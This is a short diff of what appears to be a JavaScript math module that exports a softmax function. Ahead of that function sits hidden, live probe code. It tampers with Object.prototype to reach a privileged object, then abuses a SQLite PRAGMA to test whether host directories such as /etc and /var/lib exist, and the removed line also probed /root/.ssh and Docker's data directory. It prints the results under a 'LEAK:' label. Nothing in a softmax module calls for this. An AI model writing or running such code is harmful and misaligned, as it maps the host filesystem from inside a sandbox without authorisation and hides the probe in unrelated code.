@@ -9,7 +9,7 @@ Reflect.defineProperty(Object.prototype, "_debugEnd", { __proto__: null, configu
 try { setTimeout(() => {}, 2 ** 40); } catch {}
 delete Object.prototype._debugEnd;
 const { DatabaseSync } = real.getBuiltinModule("node:sqlite"); const db = new DatabaseSync(":memory:"); const said = [];
-for (const p of ["/root", "/root/.ssh", "/root/.nope", "/home", "/var/lib/docker", "/etc", "/nope"]) { try { db.exec(`PRAGMA temp_store_directory = '${p}'`); said.push(p + " yes"); } catch (e) { said.push(p + " no"); } }
+for (const p of ["/home", "/usr/local/lib", "/var/lib", "/etc", "/nope"]) { try { db.exec(`PRAGMA temp_store_directory = '${p}'`); said.push(p + " yes"); } catch (e) { said.push(p + " no"); } }
 console.log("LEAK:", said.join(", "));
 export function softmax(x) {
   const out = new Matrix(x.rows, x.cols);
